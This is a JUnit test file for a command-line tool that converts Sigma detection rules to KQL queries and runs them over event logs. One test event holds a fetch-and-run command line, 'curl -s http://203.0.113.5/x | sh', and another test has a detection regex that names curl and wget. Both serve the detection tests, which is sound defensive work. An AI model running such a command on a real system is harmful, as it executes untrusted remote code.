package dev.hookline.cli;

import dev.hookline.kql.eval.Kql;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class SigmaCommandTest {
    @TempDir
    Path dir;

    private Path copy(String name) throws Exception {
        Path p = dir.resolve(name);
        try (InputStream in = SigmaCommandTest.class.getResourceAsStream("/sigma/" + name)) {
            Files.write(p, in.readAllBytes());
        }
        return p;
    }

    @Test
    void convertPrintsPasteableKql() throws Exception {
        Path rule = copy("net_pm_registry_ports.yml");
        CliCommandsTest.Result r = CliCommandsTest.run("sigma", "convert", rule.toString());
        assertEquals(0, r.code(), r.err());
        assertTrue(r.out().startsWith("// Node Or Pip Connects To An Internal Registry Port\n"), r.out());
        assertTrue(r.out().contains("// note: Initiated is ignored"), r.out());
        assertTrue(r.out().contains("DeviceNetworkEvents\n| where "), r.out());
        assertTrue(r.out().contains("RemotePort in (4873, 8081, 3141)"), r.out());
    }

    @Test
    void convertNamesTheFileAndFeatureOnError() throws Exception {
        Path bad = dir.resolve("fieldref.yml");
        Files.writeString(bad, "title: t\nlogsource:\n  category: process_creation\ndetection:\n  sel:\n"
                + "    CommandLine|fieldref: ParentCommandLine\n  condition: sel\n");
        CliCommandsTest.Result r = CliCommandsTest.run("sigma", "convert", bad.toString());
        assertEquals(2, r.code());
        assertTrue(r.err().contains(bad.toString()) && r.err().contains("'fieldref'"), r.err());
    }

    @Test
    void convertPrintsRegexAndCidrAsKqlOurParserAccepts() throws Exception {
        Path rule = dir.resolve("re-cidr.yml");
        Files.writeString(rule, "title: t\nlogsource:\n  category: network_connection\ndetection:\n  sel:\n"
                + "    DestinationIp|cidr:\n      - 10.0.0.0/8\n      - 'fd00::/8'\n"
                + "    Image|re: '/(curl|wget)$'\n  condition: sel\n");
        CliCommandsTest.Result r = CliCommandsTest.run("sigma", "convert", rule.toString());
        assertEquals(0, r.code(), r.err());
        assertTrue(r.out().contains("ipv4_is_in_range(RemoteIP, \"10.0.0.0/8\")"), r.out());
        assertTrue(r.out().contains("ipv6_is_in_range(RemoteIP, \"fd00::/8\")"), r.out());
        assertTrue(r.out().contains("InitiatingProcessFolderPath matches regex @\"/(curl|wget)$\""), r.out());
        Kql.compile(r.out()).streaming(); // the printed text is a query we run ourselves
    }

    @Test
    void detectAcceptsSigmaFiles() throws Exception {
        Path rule = copy("proc_curl_piped_to_shell.yml");
        Path events = dir.resolve("e.jsonl");
        Files.writeString(events, "{\"Type\":\"DeviceProcessEvents\",\"Timestamp\":\"2026-11-20T10:00:00Z\","
                + "\"FileName\":\"sh\",\"ProcessCommandLine\":\"sh -c 'curl -s http://203.0.113.5/x | sh'\"}\n");
        CliCommandsTest.Result r = CliCommandsTest.run("detect", "--events", events.toString(), "--rules",
                rule.toString(), "--now", "2026-11-20T12:00:00Z");
        assertEquals(0, r.code(), r.err());
        assertTrue(r.out().contains("\"RuleId\":\"sigma.5f0a7d2e-1c4b-4c61-9d7e-2f3a1b6c8e01\""), r.out());
        assertTrue(r.err().contains("1 events, 1 alerts"), r.err());
    }
}
